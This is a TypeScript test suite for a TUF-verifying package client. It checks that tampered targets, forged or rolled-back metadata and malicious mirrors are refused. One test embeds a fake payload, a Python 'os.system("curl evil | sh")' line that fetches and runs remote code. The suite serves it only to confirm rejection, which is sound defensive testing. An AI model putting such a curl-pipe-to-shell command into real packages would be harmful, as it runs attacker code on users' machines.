// Arbitrary package attack (a target's bytes replaced) and malicious mirrors: the client
// refuses every byte that does not match the TUF metadata, returns none of them, and, when the
// index is listed after the mirror, gets the genuine bytes from the index instead.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { Ed25519Signer } from '../../src/tuf/index.js';
import {
  AttackRepository,
  assertNotCached,
  bulwarkFetch,
  Client,
  type Mirror,
  refused,
  resign,
  sha256,
  type Uploaded,
} from './harness.js';

describe('arbitrary package: a target replaced on the mirror', () => {
  let fx: AttackRepository;
  let victim: Uploaded;
  let evilMirror: Mirror;

  before(async () => {
    fx = await AttackRepository.create('arbitrary-package');
    victim = await fx.upload('victim', '1.0');
    evilMirror = await fx.mirror('evil');
  });
  after(() => fx?.close());

  it('control: the honest tree gives the genuine bytes, vouched for by the bin', async () => {
    const client = await Client.create(fx.rootBytes);
    const got = await client.fetchTarget({ index: (await fx.mirror('honest')).url }, victim.path);
    assert.ok(got.bytes.equals(victim.bytes));
    assert.equal(got.role, fx.binFor(victim.path));
  });

  it('refuses the file with one byte flipped (same length): LENGTH_OR_HASH_MISMATCH, no bytes returned', async () => {
    evilMirror.reset();
    const evil = await evilMirror.tamper(victim.blob);
    const client = await Client.create(fx.rootBytes);
    const u = client.updater({ index: evilMirror.url });
    await u.refresh();
    const found = await u.findTarget(victim.path);
    assert.ok(found, 'the metadata is genuine: the target is listed');
    await refused(u.downloadTarget(found.target), 'LENGTH_OR_HASH_MISMATCH', 'repository');
    await assertNotCached(client, evil);
    assert.deepEqual(evilMirror.requested(/^targets\//), [victim.blob], 'asked once for the file, by its hash name');
  });

  it('refuses an entirely different, shorter file: LENGTH_OR_HASH_MISMATCH', async () => {
    evilMirror.reset();
    const malware = gzipSync(Buffer.from('import os; os.system("curl evil | sh")\n'));
    assert.ok(malware.length < victim.bytes.length);
    evilMirror.serve(victim.blob, malware);
    const client = await Client.create(fx.rootBytes);
    await refused(client.fetchTarget({ index: evilMirror.url }, victim.path), 'LENGTH_OR_HASH_MISMATCH', 'repository');
    await assertNotCached(client, malware);
  });

  it('refuses a tampered project page through VerifiedIndex (what pip and bulwark fetch read)', async () => {
    evilMirror.reset();
    const pagePath = 'victim/index.json';
    const client = await Client.create(fx.rootBytes);
    const index = client.verifiedIndex({ index: evilMirror.url });
    const genuine = await index.get(pagePath);
    const blob = `targets/victim/${genuine.target.hashes['sha256']}.index.json`;
    const page = JSON.parse(genuine.bytes.toString('utf8')) as { files: { url: string }[] };
    assert.equal(page.files.length, 1);
    // The attacker points the link elsewhere, keeping the length.
    const evil = Buffer.from(genuine.bytes.toString('utf8').replace('victim-1.0.tar.gz"', 'victim-6.6.tar.gz"'));
    assert.equal(evil.length, genuine.bytes.length);
    assert.ok(!evil.equals(genuine.bytes));
    evilMirror.serve(blob, evil);
    const fresh = await Client.create(fx.rootBytes);
    await refused(fresh.verifiedIndex({ index: evilMirror.url }).get(pagePath), 'LENGTH_OR_HASH_MISMATCH', 'repository');
    await assertNotCached(fresh, evil);
  });
});

describe('malicious mirror: the first --mirror serves tampered data', () => {
  let fx: AttackRepository;
  let victim: Uploaded;
  let index: Mirror;
  let evilMirror: Mirror;
  let rootFile: string;

  before(async () => {
    fx = await AttackRepository.create('malicious-mirror');
    victim = await fx.upload('victim', '1.0');
    index = await fx.mirror('index');
    evilMirror = await fx.mirror('evil');
    rootFile = join(fx.dataDir, 'root.json');
  });
  after(() => fx?.close());

  it('refuses the mirror\'s tampered file and gets the genuine one from the index', async () => {
    evilMirror.reset();
    const evil = await evilMirror.tamper(victim.blob);
    const client = await Client.create(fx.rootBytes);
    const got = await client.fetchTarget({ index: index.url, mirrors: [evilMirror.url] }, victim.path);
    assert.ok(got.bytes.equals(victim.bytes), 'the genuine bytes');
    assert.ok(!got.bytes.equals(evil));
    assert.deepEqual(evilMirror.requested(/^targets\//), [victim.blob], 'the mirror was asked first');
    assert.deepEqual(index.requested(/^targets\//).slice(-1), [victim.blob], 'then the index');
  });

  it('refuses the mirror\'s rolled-back timestamp, tampered snapshot and forged bin, and uses the index\'s', async () => {
    evilMirror.reset();
    const client = await Client.create(fx.rootBytes);
    await client.updater({ index: index.url }).refresh(); // trusts the current timestamp
    await fx.upload('victim', '1.1'); // the index moves on: the next refresh needs new metadata
    const snapshotVersion = await fx.version('snapshot');
    const bin = fx.binFor('victim/index.json');
    const binVersion = await fx.version(bin);
    // The mirror serves the first timestamp (a rollback), the current snapshot with a byte
    // flipped, and the bin re-signed by an attacker's key: each refused, each fetched again
    // from the index.
    const rolledBack = fx.timestamps[0] as Buffer;
    evilMirror.serve('metadata/timestamp.json', rolledBack);
    const evilSnapshot = await evilMirror.tamper(`metadata/${snapshotVersion}.snapshot.json`);
    const evilBin = await resign(await fx.metadata(bin), [Ed25519Signer.generate()]);
    evilMirror.serve(`metadata/${binVersion}.${bin}.json`, evilBin);

    const u = client.updater({ index: index.url, mirrors: [evilMirror.url] });
    await u.refresh();
    assert.ok((await client.cached('timestamp'))?.equals(fx.timestamps.at(-1) as Buffer), 'the current timestamp, from the index');
    assert.equal(await client.cachedVersion('snapshot'), snapshotVersion, 'the current snapshot, from the index');
    const found = await u.findTarget('victim/index.json');
    assert.equal(found?.role, bin);
    assert.equal(await client.cachedVersion(bin), binVersion);
    for (const p of ['metadata/timestamp.json', `metadata/${snapshotVersion}.snapshot.json`, `metadata/${binVersion}.${bin}.json`]) {
      assert.equal(evilMirror.stats.get(p)?.requests, 1, `${p} was asked of the mirror first`);
    }
    await assertNotCached(client, rolledBack, evilSnapshot, evilBin);
  });

  it('with only the malicious mirror, refuses: LENGTH_OR_HASH_MISMATCH', async () => {
    evilMirror.reset();
    const evil = await evilMirror.tamper(victim.blob);
    const client = await Client.create(fx.rootBytes);
    await refused(client.fetchTarget({ index: evilMirror.url }, victim.path), 'LENGTH_OR_HASH_MISMATCH', 'repository');
    await assertNotCached(client, evil);
  });

  it('a --mirror that is down does not stop the client: the index answers that there is no newer root', async () => {
    const down = await closedPort();
    const client = await Client.create(fx.rootBytes);
    const got = await client.fetchTarget({ index: index.url, mirrors: [down] }, victim.path);
    assert.ok(got.bytes.equals(victim.bytes));
    const r = await bulwarkFetch({ project: 'victim', file: victim.filename, index: index.url, mirrors: [down], rootFile });
    assert.equal(r.code, 0, r.stdout + r.stderr);
  });

  it('a mirror serving a forged next root does not stop the client when the index has none', async () => {
    evilMirror.reset();
    const forgedRoot = await resign(fx.rootBytes, [Ed25519Signer.generate()], (d) => (d['version'] = 2));
    evilMirror.serve('metadata/2.root.json', forgedRoot);
    const client = await Client.create(fx.rootBytes);
    const got = await client.fetchTarget({ index: index.url, mirrors: [evilMirror.url] }, victim.path);
    assert.ok(got.bytes.equals(victim.bytes));
    assert.ok((await client.cached('root'))?.equals(fx.rootBytes), 'still the pinned root');
    await assertNotCached(client, forgedRoot);
  });

  it('bulwark fetch --mirror EVIL --index HONEST: exit 0 and the genuine file', async () => {
    evilMirror.reset();
    await evilMirror.tamper(victim.blob);
    const r = await bulwarkFetch({ project: 'victim', file: victim.filename, index: index.url, mirrors: [evilMirror.url], rootFile });
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.files, [victim.filename]);
    assert.equal(sha256(await readFile(join(r.dest, victim.filename))), victim.sha256);
  });

  it('bulwark fetch --index EVIL: exit 1, code LENGTH_OR_HASH_MISMATCH, nothing written', async () => {
    evilMirror.reset();
    await evilMirror.tamper(victim.blob);
    const r = await bulwarkFetch({ project: 'victim', file: victim.filename, index: evilMirror.url, rootFile });
    assert.equal(r.code, 1, r.stdout + r.stderr);
    assert.equal(r.json?.['error']?.code, 'LENGTH_OR_HASH_MISMATCH');
    assert.match(r.stderr, /TUF verification failed/);
    assert.deepEqual(r.files, [], 'no file written');
  });
});

/** The URL of a port nothing listens on: a mirror that is down. */
async function closedPort(): Promise<string> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return `http://127.0.0.1:${port}`;
}
